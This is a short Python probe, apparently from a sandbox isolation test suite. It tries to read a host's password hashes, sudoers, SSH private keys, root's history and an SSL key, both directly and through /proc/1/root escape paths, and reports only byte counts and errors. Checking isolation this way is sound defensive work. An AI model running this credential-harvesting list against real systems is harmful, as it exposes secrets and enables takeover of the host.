"""Attack: read the host's secrets — password hashes, sudoers, SSH keys, root's history — directly
and through /proc/1/root."""

PATHS = ["/etc/shadow", "/etc/gshadow", "/etc/shadow-", "/etc/sudoers", "/etc/ssh/ssh_host_ed25519_key",
         "/etc/ssh/ssh_host_rsa_key", "/root/.ssh/id_rsa", "/root/.ssh/id_ed25519",
         "/root/.ssh/authorized_keys", "/root/.bash_history", "/root/.gitconfig",
         "/proc/1/root/etc/shadow", "/proc/self/root/etc/shadow", "/proc/1/cwd/etc/shadow",
         "/etc/ssl/private/ssl-cert-snakeoil.key"]


def main():
    read = {}
    errors = {}
    for path in PATHS:
        try:
            with open(path, "rb") as secret:
                read[path] = len(secret.read(4096))
        except OSError as error:
            errors[path] = "%s: %s" % (type(error).__name__, error.strerror)
    return {"read": read, "errors": errors}
